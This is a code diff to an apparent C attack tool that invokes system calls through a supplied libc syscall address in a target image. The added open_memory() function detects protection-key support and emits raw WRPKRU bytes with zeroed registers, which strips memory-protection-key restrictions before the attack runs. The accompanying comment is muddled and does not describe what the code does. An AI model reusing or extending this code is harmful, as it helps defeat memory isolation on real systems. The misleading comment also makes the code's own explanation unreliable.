@@ -11,6 +11,7 @@
  *
  * ADDRESS is that of the C library's syscall(2) in the image. Prints each call that succeeds.
  */
+#include <cpuid.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -84,10 +85,24 @@ static void attack(const char *what, const char *argument)
 	sleep(1);
 }
 
+/*
+ * Where the processor has protection keys, the kernel has closed its memory. The system call lets it
+ * keep the program's new keys, for another process may continue here.
+ */
+static void open_memory(void)
+{
+	unsigned a, b, c, d;
+
+	if (__get_cpuid_count(7, 0, &a, &b, &c, &d) && (c & 1 << 4))
+		__asm__ volatile(".byte 0x0f, 0x01, 0xef" : : "a"(0), "c"(0), "d"(0) : "memory");
+	getppid();
+}
+
 int main(int argc, char **argv)
 {
 	long target = (long)argv[2], pid = argc > 3 ? atol(argv[3]) : 0;
 
+	open_memory();
 	host = (void *)strtoul(argv[1], NULL, 16);
 	if (argv[2][0] != '/') {
 		attack(argv[2], argv[3]);
